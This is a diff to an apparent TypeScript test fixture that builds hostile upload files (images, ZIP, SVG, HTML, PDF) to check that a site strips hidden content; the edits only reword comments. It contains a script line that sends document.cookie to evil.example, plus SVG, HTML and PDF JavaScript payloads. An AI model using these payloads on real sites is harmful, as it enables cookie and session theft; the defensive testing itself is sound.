@@ -17,18 +17,18 @@ import type { Chance } from "../../support/seeded";
 export interface HostileFile {
   readonly name: string;
   readonly bytes: Uint8Array<ArrayBuffer>;
-  /** Under which extension it comes. */
+  /** File extension of the upload. */
   readonly extension: "jpg" | "png" | "webp";
 }
 
 /** A marker in every hidden part; no stored byte may contain it. */
 export const HIDDEN = "HIDDEN-BY-THE-SENDER";
-/** The place that `gpsTiff` writes. */
+/** The location that `gpsTiff` writes. */
 export const PLACE = "151 12 36";
 const SCRIPT = `<script>fetch("https://evil.example/?"+document.cookie)//${HIDDEN}</script>`;
 const MEGABYTE = 1024 * 1024;
 
-/** A ZIP with one stored file. */
+/** A ZIP with one uncompressed file. */
 function zip(name: string, content: Uint8Array): Uint8Array<ArrayBuffer> {
   const small = (value: number, bytes: number) =>
     Uint8Array.from({ length: bytes }, (_, at) => (value >>> (8 * at)) & 255);
@@ -63,7 +63,7 @@ const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload
 const html = `<!doctype html><html><body>${SCRIPT}</body></html>`;
 const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${HIDDEN}"))>>>>endobj`;
 
-/** Files that somebody could send to harm us or their viewers: sixty kinds, the same for the same seed. */
+/** Files that an attacker could send to harm us or the viewers: sixty kinds, the same for the same seed. */
 export function hostileFiles(chance: Chance): readonly HostileFile[] {
   const noise = (length: number) => Uint8Array.from({ length }, () => chance.whole(0, 255));
   const cut = (bytes: Uint8Array<ArrayBuffer>) => bytes.slice(0, chance.whole(4, bytes.length - 3));
